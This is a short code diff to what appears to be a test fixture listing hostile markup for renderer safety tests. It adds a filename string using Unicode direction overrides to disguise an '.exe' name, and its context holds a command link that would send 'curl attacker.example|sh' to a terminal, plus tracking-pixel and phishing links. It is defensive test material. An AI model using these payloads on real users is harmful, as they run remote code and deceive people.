@@ -10,6 +10,8 @@ const FILLER = ` ${'A'.repeat(10 * 1024)}`;
 
 /** Everything a renderer might act on, in one string. */
 export const HOSTILE_MARKUP = [
+  // First, so that even a name cut at 100 characters still carries a line break and an override.
+  '\u202Egnp.exe\u202C\nline\u2066',
   '[Re-verify](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D)',
   '![x](https://attacker.example/pixel.png)',
   '[docs](https://attacker.example/phish)',
